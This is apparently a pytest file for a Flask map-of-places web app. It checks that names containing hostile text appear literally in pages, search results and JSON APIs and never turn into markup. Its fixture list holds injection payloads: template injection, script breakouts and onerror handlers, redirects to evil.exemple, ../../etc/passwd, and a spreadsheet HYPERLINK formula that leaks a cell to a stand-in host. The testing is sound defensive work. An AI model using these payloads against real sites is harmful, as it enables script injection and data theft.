"""Names made to break pages are shown literally everywhere; the other places still show."""

import json

import pytest
from flask import Flask

from mapapp.store.engine import Store
from tests.publishing import place_values, publish_places
from tests.reading import get_json, get_page

NAMES = [
    "{{7*7}}",
    "{{ self.__init__.__globals__ }}",
    "50{% de remise",
    "{#emploi44",
    "le {{ lieu",
    "{% raw %}{% endraw %}{%for x in range(99999999)%}x{%endfor%}",
    "{0.__class__} %(name)s %s",
    "</script><script>window.__x=1</script>",
    "</script><img src=x onerror=window.__x=1>",
    "<svg onload=window.__x=1>",
    "\\u003cimg src=x onerror=window.__x=1\\u003e",
    "a`);window.__x=1;(`",
    "`${x}` libre",
    "C:\\users\\xavier",
    "<a href='javascript:window.__x=1'>site</a>",
    "<meta http-equiv=refresh content=0;url=//evil.exemple>",
    "<base href=//evil.exemple/>",
    '<noscript><p title="</noscript><img src=x onerror=window.__x=1>">',
    '"><img src=x onerror=window.__x=1>',
    "' onmouseover='window.__x=1",
    "&lt;img src=x&gt; &amp;amp;",
    "<!--",
    "<![CDATA[ ]]><x>",
    "\u202eexe.tset",
    "Croix\u200b-\u200bRouge",
    "Z" + "\u0300" * 40,
    "\ufdfd" * 20,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 accueil",
    "a\u2028b\u2029c",
    "é" * 200,
    "../../etc/passwd",
    '=HYPERLINK("http://evil.exemple?"&A1)',
    'L\'Atelier "Réparer" & Cie <44>',
    "undefined",
    "__proto__",
    "constructor",
]
TEXTS = ("name", "address", "presentation", "conditions", "hours_text", "capacity")


@pytest.fixture
def published(store: Store) -> dict[str, str]:
    """Places with hostile texts in every field, by id, and a plain one."""
    names = {f"essai-{n}": name for n, name in enumerate(NAMES)} | {"sain": "Recyclerie saine"}
    publish_places(
        store,
        {place_id: place_values(**dict.fromkeys(TEXTS, name)) for place_id, name in names.items()},
    )
    return names


def _same(shown: str, name: str) -> bool:
    return " ".join(name.split()) in " ".join(shown.split())


def test_lists_show_names_literally(empty_app: Flask, published: dict[str, str]) -> None:
    client = empty_app.test_client()
    for query in ("", "q=lieu", "ouvert=maintenant", "lon=-1.55&lat=47.22&rayon=5"):
        page = get_page(client, f"/?{query}")
        assert not [e for e in page.elements if set(e.attributes) & {"onerror", "onload"}]
        titles = {e.text for e in page.all("h3", class_="card-title")}
        if query != "q=lieu":
            assert titles == set(published.values())


def test_pages_show_names_literally(empty_app: Flask, published: dict[str, str]) -> None:
    client = empty_app.test_client()
    plain = get_page(client, "/lieux/sain")
    skeleton = [(e.tag, sorted(e.attributes)) for e in plain.elements]
    for place_id, name in published.items():
        page = get_page(client, f"/lieux/{place_id}")
        # The same elements with the same attributes: no text became markup.
        assert [(e.tag, sorted(e.attributes)) for e in page.elements] == skeleton, name
        assert page.one("h1").text == name
        assert _same(page.one("title").text, name)
        assert page.text.count(" ".join(name.split())) >= len(TEXTS)
        assert page.one("div", id="carte").attributes["data-name"] == name
        document = json.loads(page.one("script", type="application/ld+json").text)
        assert document["name"] == document["description"] == name


def test_data_carry_names_literally(empty_app: Flask, published: dict[str, str]) -> None:
    client = empty_app.test_client()
    columns = get_json(client, "/api/carte")
    assert dict(zip(columns["id"], columns["nom"], strict=True)) == published
    features = get_json(client, "/api/collections/lieux/items?limit=1000")["features"]
    assert {f["id"]: f["properties"]["nom"] for f in features} == published
    for feature in features:
        assert feature["properties"]["description"] == published[feature["id"]]
    one = get_json(client, "/api/collections/circulaire/items/essai-0")
    assert one["properties"]["nom"] == "{{7*7}}"


@pytest.mark.parametrize("name", NAMES)
def test_a_search_for_a_name_is_shown_literally(empty_app: Flask, name: str) -> None:
    response = empty_app.test_client().get("/", query_string={"q": name})
    assert response.status_code == 200
    page = get_page(empty_app.test_client(), "/?" + response.request.query_string.decode())
    assert page.one("input", id="q").attributes["value"] == " ".join(name.split())
    assert not [e for e in page.elements if set(e.attributes) & {"onerror", "onload"}]
    assert len(page.all("base")) == 0 and "window.__x=1</script>" not in response.text


def test_a_gone_place_shows_its_name_literally(store: Store, empty_app: Flask) -> None:
    names = {f"essai-{n}": name for n, name in enumerate(NAMES)}
    publish_places(store, {i: place_values(name=name) for i, name in names.items()})
    publish_places(store, {})
    client = empty_app.test_client()
    for place_id, name in names.items():
        page = get_page(client, f"/lieux/{place_id}", 410)
        assert _same(page.text, name)
        assert not [e for e in page.elements if set(e.attributes) & {"onerror", "onload"}]
